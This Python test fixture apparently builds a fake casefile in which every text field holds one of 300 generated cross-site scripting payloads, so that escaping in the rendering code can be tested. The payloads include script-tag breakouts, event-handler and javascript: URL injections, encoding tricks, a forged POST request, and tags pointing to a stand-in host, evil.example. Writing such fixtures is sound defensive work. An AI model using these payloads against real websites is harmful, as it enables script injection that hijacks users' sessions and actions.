"""A made-up casefile in which every text field holds markup that would run a script, were it taken for markup."""

from __future__ import annotations

import hashlib
from collections.abc import Iterator
from itertools import pairwise, product
from pathlib import Path

from allegiance.actors.actor import Actor
from allegiance.casefile import Casefile, Entry, JudgementKind
from allegiance.claims.claim import Attribution, Certainty, Claim, Phase, Polarity
from allegiance.documents.document import Document, Passage
from allegiance.interval import Interval
from allegiance.language.mention import ActorKind, Chain, Form, Mention
from allegiance.problem import Problem

_RUN = (
    "alert({n})",
    "window.hit={n}",
    "fetch('/settings/theme',{{method:'POST'}})",
    "top.hit={n}",
    "parent.alert({n})",
)
_SHAPES = (
    "<svg/onload={run}>",
    "<x onclick={run} tabindex=1 id=x>#x",
    "<img src=x onerror={run}//",
    "<script>{run}</script>",
    "<SCRIPT SRC=data:text/javascript,{run}></SCRIPT>",
    "</script><script>{run}//",
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</style><script>{run}</script>",
    "</option></select><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "<img src=x onerror={run}>",
    "<img src=x onerror=\"{run}\">",
    "\"><img src=x onerror={run}>",
    "'><img src=x onerror={run}>",
    "`><img src=x onerror={run}>",
    "\" onmouseover=\"{run}\" autofocus onfocus=\"{run}\" x=\"",
    "' onfocus='{run}' autofocus tabindex=1 x='",
    " onload={run} ",
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><a xlink:href=\"javascript:{run}\"><text>x</text></a>",
    "<math><maction actiontype=statusline xlink:href=\"javascript:{run}\">x",
    "<iframe src=\"javascript:{run}\"></iframe>",
    "<iframe srcdoc=\"<script>{run}</script>\"></iframe>",
    "<object data=\"javascript:{run}\"></object>",
    "<embed src=\"javascript:{run}\">",
    "<a href=\"javascript:{run}\">x</a>",
    "javascript:{run}",
    "data:text/html,<script>{run}</script>",
    "<form action=\"javascript:{run}\"><button>x</button></form>",
    "<button formaction=\"javascript:{run}\">x</button>",
    "<input autofocus onfocus={run}>",
    "<details open ontoggle={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<body onload={run}>",
    "<base href=\"//evil.example/\"><script src=x></script>",
    "<link rel=stylesheet href=\"javascript:{run}\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:{run}\">",
    "<style>@import 'javascript:{run}';</style>",
    "<div style=\"background:url(javascript:{run})\">",
    "<marquee onstart={run}>",
    "<template><script>{run}</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror={run}>\">",
    "{{{{ {run} }}}}",
    "{{% raw %}}<script>{run}</script>",
    "${{{run}}}",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
    "%3Cscript%3E{run}%3C/script%3E",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<\u0000script>{run}</script>",
    "<img\u00a0src=x\u00a0onerror={run}>",
    "\u202e<script>{run}</script>",
    "<b onpointerenter={run}>x</b>",
    "<dialog open onclose={run}><form method=dialog><button autofocus>x",
    "<a href=/ ping=//evil.example/>x</a>",
    "'-{run}-'",
    "\\\");{run}//",
)  # fmt: skip


def payloads() -> list[str]:
    """300 different ones."""
    made = [shape.format(run=run.format(n=n)) for n, (shape, run) in enumerate(product(_SHAPES, _RUN))]
    return list(dict.fromkeys(made))[:300]


def plant_hostile(path: Path) -> int:
    """Make the casefile; returns how many of the payloads are in it."""
    texts = payloads()
    with Casefile.open(path, create=True) as casefile:
        run = casefile.begin_run(f"x/{texts[0]}", {texts[1]: texts[2]})
        for at in range(0, len(texts), 10):
            casefile.add(_entry(texts[at : at + 10], at), run)
        for record, text in zip(list(casefile.claims()), texts, strict=False):
            casefile.judge(JudgementKind.COMMENT, record.id, by=text[:80] or "x", why=text)
    return len(texts)


def _entry(some: list[str], at: int) -> Entry:
    """One document: name, title, author, publisher, address, text, names, values, speakers and places are payloads."""
    text = "\n\n".join(f"{one} is with {two}." for one, two in pairwise(some))
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    document = Document(
        id="d" + digest[:15],
        name=some[0],
        text=text,
        content_hash=digest,
        reader="text/1",
        language="en",
        title=some[1],
        author=some[2],
        publisher=some[3],
        published=Interval.parse(f"20{at // 30:02}-0{1 + at // 10 % 9}-01"),
        url=some[4],
        passages=tuple(_passages(text)),
    )
    kinds = list(ActorKind)
    actors = [
        Actor(f"a{at + n}", name, kinds[n % len(kinds)], (name, f"x {name}")) for n, name in enumerate(some)
    ]
    chains = [_chain(text, actor) for actor in actors]
    claims = tuple(_claims(document, actors))
    reasons = [some[5]] * len(chains)
    problems = (Problem(some[6], some[7]),)
    return Entry(document, chains, actors, reasons, claims, problems)


def _passages(text: str) -> Iterator[Passage]:
    at = 0
    for part in text.split("\n\n"):
        yield Passage.of(text, at, at + len(part))
        at += len(part) + 2


def _chain(text: str, actor: Actor) -> Chain:
    start = text.index(actor.name)
    mention = Mention(
        start, start + len(actor.name), actor.name, Form.NAMED, actor.kind, start, reason=actor.name
    )
    return Chain(actor.name, actor.kind, (mention,), (actor.name,))


_RELATIONS = (
    "allied_with",
    "rivals",
    "holds_office",
    "described_as",
    "split_from",
    "renamed_as",
    "killed",
    "removed",
)


def _claims(document: Document, actors: list[Actor]) -> Iterator[Claim]:
    for n, (one, two) in enumerate(pairwise(actors)):
        relation = _RELATIONS[n % len(_RELATIONS)]
        valued = relation in ("holds_office", "described_as")
        for polarity in Polarity:
            yield Claim(
                document=document.id,
                subject=one,
                relation=relation,
                object=None if relation == "described_as" else two,
                value=two.name if valued else None,
                phase=Phase.HOLDS,
                polarity=polarity,
                certainty=list(Certainty)[n % 3],
                said_by=Attribution(None if n % 2 else two, two.name, one.name),
                valid=Interval.parse(f"20{10 + n}") if n % 3 else None,
                place=two.name,
                evidence=(document.passages[n],),
                score=0.9,
                extractor=one.name,
                reasons=(two.name,),
            )
